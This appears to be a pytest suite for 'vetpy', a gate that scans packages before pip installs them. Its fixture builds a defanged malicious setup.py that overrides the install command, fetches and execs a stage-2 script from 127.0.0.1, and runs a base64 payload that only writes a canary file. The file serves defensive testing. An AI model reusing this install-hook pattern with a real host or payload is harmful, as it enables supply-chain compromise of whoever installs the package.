"""`vetpy pip install`: everything pip would install is scanned first; flagged means nothing is installed.

A PEP 691 index on 127.0.0.1 (with and without a login) serves packages the tests build. The malicious
sdist is defanged: its setup.py would only write a canary file in the test's temp dir, and the canary
must never appear. pip really runs (into a temp --target) when the gate lets it.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from pathlib import Path

import pytest

from pyindex import LocalIndex, isolate_pip, serve
from vetpy.cli.main import main
from vetpy.errors import VetpyError
from vetpy.gate import parse_pip_args

TOKEN = "gate-token-8d1e6b"


def malicious_setup(canary: Path) -> bytes:
    """setup.py shaped like install-time malware (stage-2 download + exec, base64 payload run in a new
    process, an install-command override); the payload only writes ``canary``."""
    payload = base64.b64encode(f"open({str(canary)!r}, 'w').write('pwned')".encode()).decode()
    return f'''import base64, os, subprocess, sys, urllib.request
from setuptools import setup
from setuptools.command.install import install

PAYLOAD = "{payload}"


class PostInstall(install):
    def run(self):
        try:
            exec(urllib.request.urlopen("http://127.0.0.1:9/stage2.py", timeout=3).read())
        except Exception:
            pass
        subprocess.Popen([sys.executable, "-c", base64.b64decode(PAYLOAD).decode()])
        install.run(self)


exec(base64.b64decode(PAYLOAD))
setup(name="evilpkg", version="0.1", packages=[], cmdclass={{"install": PostInstall}})
'''.encode()


CLEAN = b'"""A small helper."""\n\n\ndef greet(name):\n    return f"hello {name}"\n'


@pytest.fixture(params=[None, ("ci", TOKEN)], ids=["open", "login"])
def index(
    request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> Iterator[LocalIndex]:
    isolate_pip(monkeypatch, tmp_path)
    with serve(LocalIndex(login=request.param)) as idx:
        idx.add_wheel("greeter", "1.0", {"greeter/__init__.py": CLEAN}, requires=["greeter-core>=1"])
        idx.add_wheel("greeter-core", "1.1", {"greeter_core/__init__.py": CLEAN})
        idx.add_wheel("nicetool", "2.0", {"nicetool/__init__.py": CLEAN}, requires=["evilpkg"])
        idx.add_sdist("evilpkg", "0.1", {"setup.py": malicious_setup(tmp_path / "CANARY")})
        monkeypatch.setenv("PIP_INDEX_URL", idx.login_url)
        yield idx


def gate(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str]:
    code = main(["pip", "install", *args])
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def test_the_malicious_sdist_is_flagged_by_the_shipped_model(
    index: LocalIndex, capsys: pytest.CaptureFixture[str]
) -> None:
    code = main(["scan", "evilpkg==0.1", "--format", "json"])
    assert code == 1 and '"verdict": "malicious"' in capsys.readouterr().out


def test_a_clean_wheel_with_a_malicious_dependency_is_refused(
    index: LocalIndex, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "site"
    code, output = gate(capsys, "nicetool", "--target", str(target))
    assert code == 1
    assert "refused, nothing installed: flagged evilpkg-0.1.tar.gz" in output
    assert not target.exists() or not any(target.iterdir())
    assert not (tmp_path / "CANARY").exists()
    assert TOKEN not in output


def test_a_clean_tree_is_installed_from_the_scanned_files(
    index: LocalIndex, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "site"
    code, output = gate(capsys, "greeter", "--target", str(target))
    assert code == 0, output
    assert (target / "greeter" / "__init__.py").read_bytes() == CLEAN
    assert (target / "greeter_core" / "__init__.py").exists()  # the dependency, scanned and installed
    assert "greeter-core" in output and "benign" in output
    assert TOKEN not in output


def test_no_deps_and_unknown_options(
    index: LocalIndex, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "site"
    code, _ = gate(capsys, "nicetool", "--no-deps", "--target", str(target))
    assert code == 0 and (target / "nicetool").exists() and not (tmp_path / "CANARY").exists()
    with pytest.raises(VetpyError, match="option not supported by the gate: --pre"):
        parse_pip_args(["x", "--pre"])
    with pytest.raises(VetpyError, match="only requirements from an index"):
        parse_pip_args(["./local-dir"])
    assert gate(capsys, "x", "--editable", ".")[0] == 2


def test_unresolvable_dependencies_refuse(
    index: LocalIndex, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    index.add_wheel("needsghost", "1.0", {"needsghost/__init__.py": CLEAN}, requires=["ghost-package"])
    target = tmp_path / "site"
    code, output = gate(capsys, "needsghost", "--target", str(target))
    assert code == 3 and "refused, nothing installed" in output and "ghost-package" in output
    assert not target.exists()
